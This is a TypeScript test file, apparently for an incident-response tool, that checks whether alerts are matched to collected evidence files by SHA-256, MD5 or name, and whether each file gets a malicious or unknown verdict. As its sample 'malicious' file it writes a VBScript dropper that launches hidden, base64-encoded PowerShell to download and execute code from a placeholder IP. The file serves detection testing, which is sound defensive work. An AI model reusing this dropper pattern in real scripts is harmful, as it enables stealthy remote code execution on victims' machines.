import { createHash } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { readAlert } from "@firebreak/engine/alerts/read";
import { openLedger } from "@firebreak/ledger";
import { beforeAll, expect, it } from "vitest";
import { scratchFolder } from "../../../../test/support/scratch.ts";
import { fileFactsOf } from "./file-facts.ts";

const dir = scratchFolder("facts");
const command = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')",
  "utf16le",
).toString("base64");
const script = `CreateObject("WScript.Shell").Run "powershell.exe -nop -w hidden -enc ${command}", 0, False\r\n`;
const files: Record<string, string> = { "update.vbs": script, "notes.txt": "Lunch at noon.\n" };
const hash = (name: string, algorithm: string) => createHash(algorithm).update(files[name]!).digest("hex");

beforeAll(() => {
  const items = Object.entries(files).map(([path, text]) => {
    writeFileSync(join(dir, path), text);
    return { path, file: join(dir, path), sha256: hash(path, "sha256"), bytes: Buffer.byteLength(text) };
  });
  openLedger(dir).append({
    at: "2028-01-01T00:00:00Z",
    actor: "test",
    action: "evidence.collect",
    data: { items },
  });
});

const facts = (fields: object) =>
  fileFactsOf(dir, readAlert(JSON.stringify({ rule: "r", ...fields }), "alert.json", {}));

it.each<[string, object, string | undefined, string | undefined]>([
  [
    "by SHA-256, whatever its name",
    { file_name: "other.bin", sha256: hash("update.vbs", "sha256") },
    "update.vbs",
    "malicious",
  ],
  [
    "by MD5 and name",
    { file_name: "C:\\Temp\\Update.vbs", md5: hash("update.vbs", "md5") },
    "update.vbs",
    "malicious",
  ],
  [
    "a name whose hash is another",
    { file_name: "update.vbs", md5: hash("notes.txt", "md5") },
    undefined,
    undefined,
  ],
  ["by name alone: told, and it decides nothing", { file_name: "update.vbs" }, "update.vbs", "unknown"],
  ["a file that is not there", { file_name: "missing.exe", sha256: "0".repeat(64) }, undefined, undefined],
  ["an alert without a file", { host: "a" }, undefined, undefined],
])("%s", async (_, fields, path, verdict) => {
  const found = await facts(fields);
  expect(found?.path).toBe(path);
  expect(found?.verdict).toBe(verdict);
  for (const ground of found?.grounds ?? [])
    expect(ground).toMatchObject({ kind: "file", source: expect.stringContaining("static triage of") });
});
